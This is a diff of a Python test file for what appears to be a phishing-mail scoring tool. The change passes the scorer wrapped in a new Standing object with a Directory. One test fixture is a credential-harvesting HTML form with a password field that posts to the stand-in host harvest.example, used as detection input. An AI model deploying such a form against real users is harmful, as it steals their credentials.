@@ -8,9 +8,10 @@ from email.message import EmailMessage
 import pytest
 
 from scorelane.cli import sources
-from scorelane.cli.score import scored
+from scorelane.cli.score import Standing, scored
 from scorelane.extract import Extractor
 from scorelane.scoring import Bundle, Policy, Scorer, default_bundle_path
+from scorelane.signals.context import Directory
 
 PAGE = b"<html><form action='https://harvest.example/post'><input type=password></form>"
 
@@ -45,7 +46,7 @@ def test_the_command_opens_attachments(source, scorer, monkeypatch):
         Scorer, "score", lambda self, messages, **given: seen.extend(messages) or score(self, messages, **given)
     )
     with Extractor() as extractor:
-        (row,) = scored(scorer, [source], extractor, explain=True)
+        (row,) = scored(Standing(scorer, Directory()), [source], extractor, explain=True)
     assert row["verdict"]
     assert [one.found.status for one in seen[0].opened] == ["ok", "ok"]
     assert {link.source for link in seen[0].links} == {"shortcut", "page"}
@@ -54,6 +55,6 @@ def test_the_command_opens_attachments(source, scorer, monkeypatch):
 def test_mail_is_scored_where_no_server_can_be_started(source, scorer, monkeypatch, capsys):
     monkeypatch.setattr(sys, "executable", "/bin/false")
     with Extractor() as extractor:
-        (row,) = scored(scorer, [source], extractor, explain=False)
+        (row,) = scored(Standing(scorer, Directory()), [source], extractor, explain=False)
     assert row["verdict"]
     assert "attachments were not opened" in capsys.readouterr().err
